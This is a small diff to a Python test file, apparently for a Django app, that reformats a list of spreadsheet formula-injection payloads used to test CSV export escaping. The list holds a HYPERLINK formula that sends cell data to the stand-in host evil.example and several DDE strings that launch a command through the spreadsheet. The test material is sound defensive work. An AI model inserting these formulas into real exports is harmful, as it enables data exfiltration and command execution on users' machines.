@@ -11,8 +11,12 @@ from tests.conftest import rounds_of
 
 pytestmark = pytest.mark.django_db
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 
 
